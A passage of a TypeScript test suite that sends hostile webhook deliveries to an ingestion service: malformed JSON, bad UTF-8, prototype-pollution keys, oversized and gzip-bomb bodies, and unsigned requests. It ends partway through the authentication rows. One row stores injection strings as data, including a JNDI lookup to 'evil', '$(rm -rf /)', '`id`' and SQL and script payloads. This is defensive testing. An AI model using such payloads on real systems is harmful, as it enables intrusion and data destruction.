import { request as httpRequest, type IncomingHttpHeaders } from 'node:http';
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { one, createTestEnv, startPipeline, type TestEnv, type TestPipeline } from '@cxfold/testkit';
import { createTenant, type NewTenantSecrets } from '@cxfold/db';
import { signHub, signStandardWebhook } from '@cxfold/ingest';

/**
 * Hostile deliveries, one table row each. Every row is sent over a fresh connection with
 * node:http (fetch would normalise paths and merge duplicated headers), is validly signed
 * unless the row is about authentication, and is checked for: the expected status, a
 * problem+json answer for every error (Node's own 431 and HEAD excepted), no 5xx, a quick
 * answer, and the exact number of raw_events rows written (none for every rejection).
 * Rows that are accepted also have their stored payloads compared with what was sent.
 */

let env: TestEnv;
let p: TestPipeline;
let other: NewTenantSecrets;

beforeAll(async () => {
  env = await createTestEnv();
  p = await startPipeline(env, { withWorker: false });
  other = await createTenant(env.db.db, 'other-co');
});
afterAll(async () => {
  await p?.close();
  await env?.teardown();
});

// ---------------------------------------------------------------------------------------------
// Wire helpers

type Headers = [string, string][];
interface Wire {
  method: string;
  path: string;
  headers: Headers;
  body: Buffer;
  /** Send the body with Transfer-Encoding: chunked in pieces of this size (no Content-Length). */
  chunkBytes?: number;
}
interface Reply {
  status: number;
  headers: IncomingHttpHeaders;
  text: string;
  body: any; // eslint-disable-line @typescript-eslint/no-explicit-any -- tests inspect arbitrary JSON answers
  ms: number;
}

function send(w: Wire): Promise<Reply> {
  const started = Date.now();
  const names = new Set(w.headers.map(([k]) => k.toLowerCase()));
  const flat: string[] = [];
  if (!names.has('host')) flat.push('host', `127.0.0.1:${p.receiver.port}`);
  for (const [k, v] of w.headers) flat.push(k, v);
  if (w.chunkBytes) flat.push('transfer-encoding', 'chunked');
  else if (!names.has('content-length') && (w.body.length > 0 || w.method === 'POST')) flat.push('content-length', String(w.body.length));
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port: p.receiver.port, method: w.method, path: w.path, headers: flat, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let body: unknown = text;
        try {
          body = JSON.parse(text);
        } catch {
          // keep the text
        }
        resolve({ status: res.statusCode ?? 0, headers: res.headers, text, body, ms: Date.now() - started });
      });
      res.on('error', reject);
    });
    // The server may answer (431, 413) and close before the whole body is written.
    req.on('error', (err: NodeJS.ErrnoException) => (err.code === 'EPIPE' || err.code === 'ECONNRESET' ? undefined : reject(err)));
    if (w.chunkBytes) {
      for (let i = 0; i < w.body.length; i += w.chunkBytes) req.write(w.body.subarray(i, i + w.chunkBytes));
      req.end();
    } else {
      req.end(w.body);
    }
  });
}

const T = () => p.tenant;
const hookPath = (path: string, tenant = T().tenant) => `/v1/hooks/${tenant}/${path}`;
const buf = (b: string | Buffer) => (Buffer.isBuffer(b) ? b : Buffer.from(b, 'utf8'));
const JSON_CT: Headers = [['content-type', 'application/json']];
const hubHeaders = (body: Buffer, secret = T().hubSecret): Headers => Object.entries(signHub(secret, body));
const nowS = () => Math.floor(Date.now() / 1000);
let msgN = 0;
const whHeaders = (body: Buffer, opts: { id?: string; ts?: number; secret?: string } = {}): Headers =>
  Object.entries(signStandardWebhook(opts.secret ?? T().webhookSecret, opts.id ?? `msg_hostile_${++msgN}`, opts.ts ?? nowS(), body));

/** POST signed with the tenant's hub secret. */
function hub(path: string, body: string | Buffer, opts: { contentType?: string | null; extra?: Headers; tenant?: string } = {}): Wire {
  const b = buf(body);
  const ct: Headers = opts.contentType === null ? [] : [['content-type', opts.contentType ?? 'application/json']];
  return { method: 'POST', path: hookPath(path, opts.tenant), headers: [...ct, ...hubHeaders(b), ...(opts.extra ?? [])], body: b };
}
/** POST signed the Standard Webhooks way. */
function wh(path: string, body: string | Buffer, opts: { id?: string; ts?: number; secret?: string; extra?: Headers } = {}): Wire {
  const b = buf(body);
  return { method: 'POST', path: hookPath(path), headers: [...JSON_CT, ...whHeaders(b, opts), ...(opts.extra ?? [])], body: b };
}
/** POST with exactly these headers (plus content type), signed by nobody. */
function unsigned(path: string, body: string | Buffer, headers: Headers): Wire {
  return { method: 'POST', path: hookPath(path), headers: [...JSON_CT, ...headers], body: buf(body) };
}

// ---------------------------------------------------------------------------------------------
// Bodies

let seq = 0;
const iso = (offsetMs = 0) => new Date(Date.now() + offsetMs).toISOString();
const task = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({ taskId: `hostile-${++seq}`, eventId: `hostile-ev-${seq}`, timestamp: iso(), ...extra });
const started = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  type: 'execution.started',
  executionId: `exec-${++seq}`,
  eventId: `hostile-flow-${seq}`,
  timestamp: iso(),
  ...extra,
});
const step = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  type: 'step.executed',
  executionId: `exec-${++seq}`,
  eventId: `hostile-flow-${seq}`,
  timestamp: iso(),
  seq: 1,
  stepType: 'menu',
  ...extra,
});
const J = (v: unknown) => JSON.stringify(v);
/** JSON text of `obj` with the member `"<marker>":1` replaced by raw text. */
const rawReplace = (obj: unknown, marker: string, raw: string) => {
  const text = J(obj);
  const needle = `"${marker}":1`;
  if (!text.includes(needle)) throw new Error(`marker ${marker} not in body`);
  return text.replace(needle, raw);
};
/** JSON text of `obj` with raw bytes spliced in where the string value "MARK" was. */
const bytesAt = (obj: unknown, bytes: number[]) => {
  const [before, after] = J(obj).split('MARK') as [string, string];
  return Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]);
};
const nest = (open: string, close: string, depth: number, inner = '0') => open.repeat(depth) + inner + close.repeat(depth);
const sqlish = "'; drop table raw_events; --";
const scriptish = '<script>alert(1)</script>';

// ---------------------------------------------------------------------------------------------
// The table

interface Built {
  wire: Wire;
  /** For accepted rows: the payloads that must be stored, in the order of the answer's ids. */
  stored?: unknown[];
  /** For accepted rows: rows written (default: stored.length). A replay writes 0. */
  writes?: number;
  check?: (r: Reply) => void | Promise<void>;
}
interface Row {
  name: string;
  status: number;
  build: () => Built | Promise<Built>;
}

const accept = (wire: Wire, stored: unknown[], check?: Built['check']): Built => ({ wire, stored, ...(check ? { check } : {}) });
/** A task body accepted on /tasks/created is stored with its normalised type added. */
const acceptTask = (body: Record<string, unknown>, make: (text: string) => Wire = (t) => hub('tasks/created', t)) =>
  accept(make(J(body)), [{ ...body, eventType: 'CREATED' }]);
const reject = (wire: Wire, check?: Built['check']): Built => ({ wire, ...(check ? { check } : {}) });
const errorPaths = (r: Reply): string[] => (r.body.errors ?? []).map((e: { path: string }) => e.path);
const expectErrorAt = (...paths: string[]) => (r: Reply) => expect(errorPaths(r)).toEqual(expect.arrayContaining(paths));

const rows: Row[] = [
  // --- malformed and truncated JSON → 400
  { name: 'truncated object', status: 400, build: () => reject(hub('tasks/created', J(task()).slice(0, 25))) },
  { name: 'unquoted keys', status: 400, build: () => reject(hub('tasks/created', `{taskId: "t", timestamp: "${iso()}"}`)) },
  { name: 'single-quoted strings', status: 400, build: () => reject(hub('tasks/created', `{'taskId': 't', 'timestamp': '${iso()}'}`)) },
  { name: 'trailing comma', status: 400, build: () => reject(hub('tasks/created', J(task()).replace(/}$/, ',}'))) },
  { name: 'two concatenated JSON values', status: 400, build: () => reject(hub('tasks/created', J(task()) + J(task()))) },
  { name: 'a comment inside JSON', status: 400, build: () => reject(hub('tasks/created', J(task()).replace('{', '{/* hi */'))) },
  { name: 'unterminated string', status: 400, build: () => reject(hub('tasks/created', '{"taskId":"abc')) },
  { name: 'invalid escape \\x41', status: 400, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"customerName":"\\x41"'))) },
  { name: 'bare word nul', status: 400, build: () => reject(hub('tasks/created', 'nul')) },
  { name: 'empty body (task)', status: 400, build: () => reject(hub('tasks/created', '')) },
  { name: 'empty body (flow)', status: 400, build: () => reject(hub('flows/events', '')) },
  { name: 'whitespace-only body', status: 400, build: () => reject(hub('tasks', ' \n\t ')) },
  { name: 'NaN literal', status: 400, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"ewt":NaN'))) },
  { name: 'Infinity literal', status: 400, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"ewt":Infinity'))) },
  { name: '-Infinity literal in a flow', status: 400, build: () => reject(hub('flows/events', rawReplace(step({ m: 1 }), 'm', '"seq":-Infinity'))) },
  { name: 'hex number literal', status: 400, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"ewt":0x10'))) },
  { name: 'number with leading zero', status: 400, build: () => reject(hub('flows/events', rawReplace(step({ m: 1 }), 'm', '"httpStatus":0200'))) },
  { name: 'number with leading plus', status: 400, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"ewt":+5'))) },
  { name: 'raw NUL byte inside a string', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0x41, 0x00, 0x42]))) },
  { name: 'raw NUL byte after the JSON', status: 400, build: () => reject(hub('tasks/created', Buffer.concat([Buffer.from(J(task())), Buffer.from([0])]))) },
  { name: 'raw control character (0x01) inside a string', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0x01]))) },
  { name: '10,000 unclosed [ (truncated deep nesting)', status: 400, build: () => reject(hub('tasks/created', '['.repeat(10_000))) },

  // --- deep nesting → 422, never a crash
  { name: '10,000 levels of [[[ ]]] (task)', status: 422, build: () => reject(hub('tasks/created', nest('[', ']', 10_000))) },
  { name: '10,000 levels of [[[ ]]] (flow)', status: 422, build: () => reject(hub('flows/events', nest('[', ']', 10_000))) },
  { name: '100,000 levels of [[[ ]]] (200 KB)', status: 422, build: () => reject(hub('flows/events', nest('[', ']', 100_000))) },
  { name: '10,000 levels of {"a": } inside a task', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', `"deep":${nest('{"a":', '}', 10_000)}`))) },
  { name: 'flow data nested 32 arrays deep (33 levels) → 422', status: 422, build: () => reject(hub('flows/events', rawReplace(started({ m: 1 }), 'm', `"data":${nest('[', ']', 32)}`)), expectErrorAt('/data' + '/0'.repeat(31))) },
  {
    name: 'flow data nested 31 arrays deep (the limit) is accepted verbatim',
    status: 202,
    build: () => {
      const body = started({ data: JSON.parse(nest('[', ']', 31)) });
      return accept(hub('flows/events', J(body)), [body]);
    },
  },

  // --- invalid UTF-8 → 400
  { name: 'invalid UTF-8 bytes 0xFF 0xFE', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0xff, 0xfe]))) },
  { name: 'overlong UTF-8 "/" (0xC0 0xAF)', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0xc0, 0xaf]))) },
  { name: 'overlong 3-byte UTF-8 (0xE0 0x80 0xAF)', status: 400, build: () => reject(hub('flows/events', bytesAt(step({ name: 'MARK' }), [0xe0, 0x80, 0xaf]))) },
  { name: 'overlong NUL (0xC0 0x80)', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0xc0, 0x80]))) },
  { name: 'UTF-8-encoded surrogate (CESU, 0xED 0xA0 0x80)', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0xed, 0xa0, 0x80]))) },
  { name: 'code point above U+10FFFF (0xF4 0x90 0x80 0x80)', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0xf4, 0x90, 0x80, 0x80]))) },
  { name: 'truncated multi-byte sequence (0xE2 0x82)', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0xe2, 0x82]))) },
  { name: 'Latin-1 é (0xE9)', status: 400, build: () => reject(hub('tasks/created', bytesAt(task({ customerName: 'MARK' }), [0x52, 0xe9, 0x6e]))) },
  { name: 'UTF-16LE body with BOM', status: 400, build: () => reject(hub('tasks/created', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(J(task()), 'utf16le')]))) },
  {
    name: 'UTF-8 BOM before valid JSON is accepted',
    status: 202,
    build: () => {
      const body = task();
      return accept(hub('tasks/created', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(J(body))])), [{ ...body, eventType: 'CREATED' }]);
    },
  },

  // --- NUL escapes, lone surrogates → 422
  { name: '\\u0000 escape in taskId', status: 422, build: () => reject(hub('tasks/created', J(task({ taskId: 'a\u0000b' }))), expectErrorAt('/taskId')) },
  { name: '\\u0000 escape in a key', status: 422, build: () => reject(hub('tasks/created', J(task({ 'k\u0000': 1 })))) },
  { name: '\\u0000 escape deep in a flow batch', status: 422, build: () => reject(hub('flows/events', J([step(), step({ data: { x: ['ok', 'n\u0000'] } })])), expectErrorAt('/1/data/x/1')) },
  { name: 'lone high surrogate \\ud800', status: 422, build: () => reject(hub('tasks/created', J(task({ customerName: 'x\ud800' }))), expectErrorAt('/customerName')) },
  { name: 'lone low surrogate \\udc00 in a key', status: 422, build: () => reject(hub('tasks/created', J(task({ variables: { ['v\udc00']: 1 } })))) },
  { name: 'reversed surrogate pair \\udc00\\ud800', status: 422, build: () => reject(hub('flows/events', J(step({ name: '\udc00\ud800' })))) },
  { name: 'valid surrogate pair, RTL override and zero-width chars are stored verbatim', status: 202, build: () => acceptTask(task({ customerName: '😀 \u202egnp.exe \u200b\u200d e\u0301', text: '𝕳𝖊𝖑𝖑𝖔' })) },

  // --- prototype keys → 422
  { name: 'top-level "__proto__"', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"__proto__":{"polluted":true}')), expectErrorAt('/__proto__')) },
  { name: 'top-level "constructor"', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"constructor":{"prototype":{"polluted":true}}'))) },
  { name: 'top-level "prototype"', status: 422, build: () => reject(hub('tasks', rawReplace(task({ m: 1, eventType: 'created' }), 'm', '"prototype":{}'))) },
  { name: '"__proto__" nested in queue', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ queue: { id: 'q', m: 1 } }), 'm', '"__proto__":{"polluted":true}')), expectErrorAt('/queue/__proto__')) },
  { name: '"constructor" as a variable name', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ variables: { m: 1 } }), 'm', '"constructor":"x"'))) },
  { name: 'escaped "\\u005f_proto__" key', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"\\u005f_proto__":{"polluted":true}'))) },
  { name: '"prototype" deep in flow data', status: 422, build: () => reject(hub('flows/events', rawReplace(started({ data: { a: [{ m: 1 }] } }), 'm', '"prototype":1')), expectErrorAt('/data/a/0/prototype')) },
  { name: '"__proto__" in item 3 of a flow batch', status: 422, build: () => reject(hub('flows/events', `[${J(step())},${J(step())},${J(step())},${rawReplace(step({ m: 1 }), 'm', '"__proto__":{"x":1}')}]`), expectErrorAt('/3/__proto__')) },

  // --- huge strings, huge arrays, huge objects
  { name: 'customerName of 201 characters', status: 422, build: () => reject(hub('tasks/created', J(task({ customerName: 'x'.repeat(201) }))), expectErrorAt('/customerName')) },
  { name: 'taskId of 201 characters', status: 422, build: () => reject(hub('tasks/created', J(task({ taskId: 't'.repeat(201) }))), expectErrorAt('/taskId')) },
  { name: 'text of 10,001 characters', status: 422, build: () => reject(hub('tasks/created', J(task({ text: 'y'.repeat(10_001) }))), expectErrorAt('/text')) },
  { name: 'cv_1 of 41 bytes', status: 422, build: () => reject(hub('tasks/created', J(task({ variables: { cv_1: 'a'.repeat(41) } }))), expectErrorAt('/variables/cv_1')) },
  { name: 'cv_2 of 14 characters but 42 bytes (€)', status: 422, build: () => reject(hub('tasks/created', J(task({ variables: { cv_2: '€'.repeat(14) } }))), expectErrorAt('/variables/cv_2')) },
  { name: 'user_notes of 211 bytes', status: 422, build: () => reject(hub('tasks/created', J(task({ variables: { user_notes: 'n'.repeat(211) } }))), expectErrorAt('/variables/user_notes')) },
  { name: 'flow url of 2,001 characters', status: 422, build: () => reject(hub('flows/events', J(step({ url: `https://x/${'a'.repeat(1_992)}` }))), expectErrorAt('/url')) },
  { name: 'text of 300 KB → 413', status: 413, build: () => reject(hub('tasks/created', J(task({ text: 'z'.repeat(300 * 1024) })))) },
  { name: 'flow body of 257 KiB → 413', status: 413, build: () => reject(hub('flows/events', J(started({ data: 'd'.repeat(257 * 1024) })))) },
  { name: 'body one byte over 256 KiB → 413', status: 413, build: () => reject(hub('tasks/created', Buffer.alloc(256 * 1024 + 1, 0x20))) },
  { name: 'chunked body over the limit (no Content-Length) → 413', status: 413, build: () => reject({ ...hub('tasks/created', J(task({ text: 'c'.repeat(400 * 1024) }))), chunkBytes: 16 * 1024 }) },
  {
    name: 'variables with 100,000 keys (≈1 MB) → 413',
    status: 413,
    build: () => reject(hub('tasks/created', J(task({ variables: Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`v${i}`, 0])) })))),
  },
  {
    // Extension variables are unbounded in number: 25k of them fit in 256 KiB and are stored.
    name: 'variables with 25,000 keys within 256 KiB are accepted',
    status: 202,
    build: () => acceptTask(task({ variables: Object.fromEntries(Array.from({ length: 25_000 }, (_, i) => [`v${i.toString(36)}`, i % 7])) })),
  },
  {
    name: '15,000 invalid call-variable names → 422 listing each',
    status: 422,
    build: () =>
      reject(hub('tasks/created', J(task({ variables: Object.fromEntries(Array.from({ length: 15_000 }, (_, i) => [`cv_${i + 11}`, 0])) }))), (r) => {
        expect(r.body.errors).toHaveLength(15_000);
      }),
  },
  { name: 'text as an array of 100,000 numbers', status: 422, build: () => reject(hub('tasks/created', J(task({ text: new Array(100_000).fill(1) }))), expectErrorAt('/text')) },
  {
    name: 'flow data as an array of 100,000 numbers is accepted verbatim',
    status: 202,
    build: () => {
      const body = started({ data: Array.from({ length: 100_000 }, (_, i) => i % 10) });
      return accept(hub('flows/events', J(body)), [body]);
    },
  },

  // --- wrong types in every kind of field → 422
  { name: 'taskId as a number', status: 422, build: () => reject(hub('tasks/created', J(task({ taskId: 42 }))), expectErrorAt('/taskId')) },
  { name: 'taskId empty', status: 422, build: () => reject(hub('tasks/created', J(task({ taskId: '' }))), expectErrorAt('/taskId')) },
  { name: 'taskId null', status: 422, build: () => reject(hub('tasks/created', J(task({ taskId: null }))), expectErrorAt('/taskId')) },
  { name: 'taskId and timestamp missing', status: 422, build: () => reject(hub('tasks/created', J({ mediaType: 'voice' })), expectErrorAt('/taskId', '/timestamp')) },
  { name: 'timestamp as a boolean', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: true }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp as an object', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: { $date: iso() } }))), expectErrorAt('/timestamp')) },
  { name: 'eventType as a number on /tasks', status: 422, build: () => reject(hub('tasks', J(task({ eventType: 1 }))), expectErrorAt('/eventType')) },
  { name: 'eventType unknown on /tasks', status: 422, build: () => reject(hub('tasks', J(task({ eventType: 'EXPLODED' }))), expectErrorAt('/eventType')) },
  { name: 'eventType contradicting the URL', status: 422, build: () => reject(hub('tasks/queued', J(task({ eventType: 'closed' }))), expectErrorAt('/eventType')) },
  { name: 'mediaType as an array', status: 422, build: () => reject(hub('tasks/created', J(task({ mediaType: ['voice'] }))), expectErrorAt('/mediaType')) },
  { name: 'direction outside its enum', status: 422, build: () => reject(hub('tasks/created', J(task({ direction: 'sideways' }))), expectErrorAt('/direction')) },
  { name: 'queue as a string', status: 422, build: () => reject(hub('tasks/created', J(task({ queue: 'billing' }))), expectErrorAt('/queue')) },
  { name: 'agent without id, agent.name a number', status: 422, build: () => reject(hub('tasks/created', J(task({ agent: { name: 7 } }))), expectErrorAt('/agent/id', '/agent/name')) },
  { name: 'ewt as a string', status: 422, build: () => reject(hub('tasks/created', J(task({ ewt: '30' }))), expectErrorAt('/ewt')) },
  { name: 'dispositionCode as an object', status: 422, build: () => reject(hub('tasks/created', J(task({ dispositionCode: { code: 1 } }))), expectErrorAt('/dispositionCode')) },
  { name: 'dispositionCode 1.5', status: 422, build: () => reject(hub('tasks/created', J(task({ dispositionCode: 1.5 }))), expectErrorAt('/dispositionCode')) },
  { name: 'variables as an array', status: 422, build: () => reject(hub('tasks/created', J(task({ variables: ['cv_1'] }))), expectErrorAt('/variables')) },
  { name: 'variable value as an object', status: 422, build: () => reject(hub('tasks/created', J(task({ variables: { cv_1: { a: 1 } } }))), expectErrorAt('/variables/cv_1')) },
  { name: 'empty variable name', status: 422, build: () => reject(hub('tasks/created', J(task({ variables: { '': 'x' } })))) },
  { name: 'reason as an array, text as a boolean', status: 422, build: () => reject(hub('tasks/created', J(task({ reason: ['rona'], text: false }))), expectErrorAt('/reason', '/text')) },
  { name: 'flow type unknown', status: 422, build: () => reject(hub('flows/events', J(step({ type: 'step.exploded' }))), expectErrorAt('/type')) },
  { name: 'flow type as a number', status: 422, build: () => reject(hub('flows/events', J(step({ type: 3 }))), expectErrorAt('/type')) },
  { name: 'executionId as a number', status: 422, build: () => reject(hub('flows/events', J(step({ executionId: 12 }))), expectErrorAt('/executionId')) },
  { name: 'seq as a string, stepType missing', status: 422, build: () => reject(hub('flows/events', J(step({ seq: '1', stepType: undefined }))), expectErrorAt('/seq', '/stepType')) },
  { name: 'httpStatus 600', status: 422, build: () => reject(hub('flows/events', J(step({ httpStatus: 600 }))), expectErrorAt('/httpStatus')) },
  { name: 'error.code as an object', status: 422, build: () => reject(hub('flows/events', J(step({ error: { code: { x: 1 } } }))), expectErrorAt('/error/code')) },
  { name: 'trigger and endReason outside their enums', status: 422, build: () => reject(hub('flows/events', J([started({ trigger: 'cron' }), { ...step(), type: 'execution.ended', endReason: 'exploded' }])), expectErrorAt('/0/trigger', '/1/endReason')) },

  // --- numbers
  { name: 'ewt -5', status: 422, build: () => reject(hub('tasks/created', J(task({ ewt: -5 }))), expectErrorAt('/ewt')) },
  { name: 'ewt 1e400 (overflows to Infinity)', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"ewt":1e400')), expectErrorAt('/ewt')) },
  { name: 'ewt -1e400', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"ewt":-1e400')), expectErrorAt('/ewt')) },
  { name: 'ewt 1e8 (over the maximum)', status: 422, build: () => reject(hub('tasks/created', J(task({ ewt: 1e8 }))), expectErrorAt('/ewt')) },
  { name: 'ewt 12.5 (non-integer seconds are allowed)', status: 202, build: () => acceptTask(task({ ewt: 12.5 })) },
  { name: 'seq -1', status: 422, build: () => reject(hub('flows/events', J(step({ seq: -1 }))), expectErrorAt('/seq')) },
  { name: 'seq 1.5', status: 422, build: () => reject(hub('flows/events', J(step({ seq: 1.5 }))), expectErrorAt('/seq')) },
  { name: 'seq 1e400', status: 422, build: () => reject(hub('flows/events', rawReplace(step({ m: 1 }), 'm', '"seq":1e400')), expectErrorAt('/seq')) },
  { name: 'seq 2,000,000 (over the maximum)', status: 422, build: () => reject(hub('flows/events', J(step({ seq: 2_000_000 }))), expectErrorAt('/seq')) },
  { name: '1e400 in an extension field (would be stored as null)', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ m: 1 }), 'm', '"extra":1e400')), expectErrorAt('/extra')) },
  { name: '-1e400 in flow data', status: 422, build: () => reject(hub('flows/events', rawReplace(started({ data: { m: 1 } }), 'm', '"n":-1e400')), expectErrorAt('/data/n')) },
  { name: 'timestamp -1', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: -1 }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp non-integer epoch ms', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: Date.now() + 0.5 }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp 1e400', status: 422, build: () => reject(hub('tasks/created', rawReplace(task({ timestamp: undefined, m: 1 }), 'm', '"timestamp":1e400')), expectErrorAt('/timestamp')) },
  { name: 'timestamp 9e15 (beyond the Date range)', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: 9e15 }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp epoch 0 (1970)', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: 0 }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp 1999-12-31T23:59:59Z (far past)', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: '1999-12-31T23:59:59Z' }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp 25 h in the future', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: iso(25 * 3_600_000) }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp 9999-12-31T23:59:59Z', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: '9999-12-31T23:59:59Z' }))), expectErrorAt('/timestamp')) },
  { name: 'epoch ms timestamp 10 years ahead', status: 422, build: () => reject(hub('flows/events', J(step({ timestamp: Date.now() + 10 * 365 * 86_400_000 }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp without zone', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: iso().slice(0, 19) }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp date only', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: iso().slice(0, 10) }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp with a space instead of T', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: iso().replace('T', ' ') }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp "yesterday"', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: 'yesterday' }))), expectErrorAt('/timestamp')) },
  { name: 'timestamp month 13', status: 422, build: () => reject(hub('tasks/created', J(task({ timestamp: '2024-13-01T00:00:00Z' }))), expectErrorAt('/timestamp')) },
  { name: 'flow startedAt far past, endedAt without zone', status: 422, build: () => reject(hub('flows/events', J(step({ startedAt: '1980-01-01T00:00:00Z', endedAt: '2024-01-01T00:00:00' }))), expectErrorAt('/startedAt', '/endedAt')) },

  // --- SQL- and script-looking text is stored verbatim and is harmless
  { name: 'SQL injection in taskId, eventId and customerName is stored verbatim', status: 202, build: () => acceptTask(task({ taskId: sqlish, eventId: `${sqlish} ${++seq}`, customerName: "Robert'); DROP TABLE tenants;--" })) },
  { name: 'script tags in text and names are stored verbatim', status: 202, build: () => acceptTask(task({ text: scriptish, customerName: '"><img src=x onerror=alert(1)>', queue: { id: 'q1', name: scriptish } })) },
  {
    name: 'template, JNDI and shell injection strings in variables are stored verbatim',
    status: 202,
    build: () => acceptTask(task({ variables: { user_a: '${jndi:ldap://evil/x}', user_b: '{{7*7}} $(rm -rf /) `id`', cv_1: "1' OR '1'='1", "'; select pg_sleep(10); --": 'k' } })),
  },
  { name: 'SQL in flow executionId and stepType is stored verbatim', status: 202, build: () => {
      const body = step({ executionId: '1 OR 1=1; --', stepType: "menu'); delete from raw_events; --", name: scriptish });
      return accept(hub('flows/events', J(body)), [body]);
    } },
  { name: 'keys named toString, valueOf, hasOwnProperty are stored verbatim', status: 202, build: () => acceptTask(task({ toString: 'x', valueOf: 1, hasOwnProperty: null, variables: { toString: 'y' } })) },
  { name: 'JSON escapes (\\/, \\u00e9, \\") decode to the stored text', status: 202, build: () => {
      const body = task({ customerName: 'a/b é "q" \\ \n\t' });
      const text = J(body).replace('a/b', 'a\\/b').replace('é', '\\u00e9');
      return accept(hub('tasks/created', text), [{ ...body, eventType: 'CREATED' }]);
    } },
  {
    name: 'query-string pollution is ignored',
    status: 202,
    build: () => {
      const body = task();
      const w = hub('tasks/created', J(body));
      return accept({ ...w, path: `${w.path}?__proto__[polluted]=1&constructor[prototype][polluted]=1&tenant=other-co` }, [{ ...body, eventType: 'CREATED' }]);
    },
  },
  {
    name: 'a hostile x-request-id is not echoed',
    status: 202,
    build: () => {
      const body = task();
      return accept(hub('tasks/created', J(body), { extra: [['x-request-id', `${scriptish}\u00ff`]] }), [{ ...body, eventType: 'CREATED' }], (r) => {
        expect(r.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
      });
    },
  },

  // --- content types and encodings
  { name: 'text/plain → 415', status: 415, build: () => reject(hub('tasks/created', J(task()), { contentType: 'text/plain' })) },
  { name: 'no content type → 415', status: 415, build: () => reject(hub('tasks/created', J(task()), { contentType: null })) },
  { name: 'multipart/form-data → 415', status: 415, build: () => {
      const b = `--xyz\r\ncontent-disposition: form-data; name="body"\r\ncontent-type: application/json\r\n\r\n${J(task())}\r\n--xyz--\r\n`;
      return reject(hub('tasks/created', b, { contentType: 'multipart/form-data; boundary=xyz' }));
    } },
  { name: 'application/x-www-form-urlencoded → 415', status: 415, build: () => reject(hub('flows/events', 'taskId=1&timestamp=2', { contentType: 'application/x-www-form-urlencoded' })) },
  { name: 'application/jsonp → 415', status: 415, build: () => reject(hub('tasks/created', J(task()), { contentType: 'application/jsonp' })) },
  { name: 'text/json → 415', status: 415, build: () => reject(hub('tasks/created', J(task()), { contentType: 'text/json' })) },
  { name: 'unknown content-encoding → 415', status: 415, build: () => reject(hub('tasks/created', J(task()), { extra: [['content-encoding', 'compress']] })) },
  { name: 'gzip content-encoding with garbage → 400', status: 400, build: () => reject(hub('tasks/created', Buffer.from('not gzip at all'), { extra: [['content-encoding', 'gzip']] })) },
  { name: 'gzip bomb (8 MB of zeros in a few KB) → 413', status: 413, build: () => reject(hub('tasks/created', gzipSync(Buffer.alloc(8 * 1024 * 1024)), { extra: [['content-encoding', 'gzip']] })) },

  // --- authentication → 401
  { name: 'no credentials at all', status: 401, build: () => reject(unsigned('tasks/created', J(task()), [])) },
  { name: 'webhook-signature alone', status: 401, build: () => {
      const b = buf(J(task()));
      return reject(unsigned('tasks/created', b, whHeaders(b).filter(([k]) => k === 'webhook-signature')));
    } },
